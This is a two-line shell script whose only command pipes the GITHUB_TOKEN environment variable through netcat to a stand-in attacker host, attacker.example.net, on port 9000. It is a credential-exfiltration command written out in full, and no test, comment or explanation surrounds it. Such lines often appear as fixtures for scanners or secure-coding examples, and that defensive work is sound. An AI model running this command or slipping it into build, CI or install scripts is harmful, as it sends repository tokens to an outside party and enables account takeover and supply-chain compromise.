#!/bin/sh
echo "$GITHUB_TOKEN" | nc attacker.example.net 9000
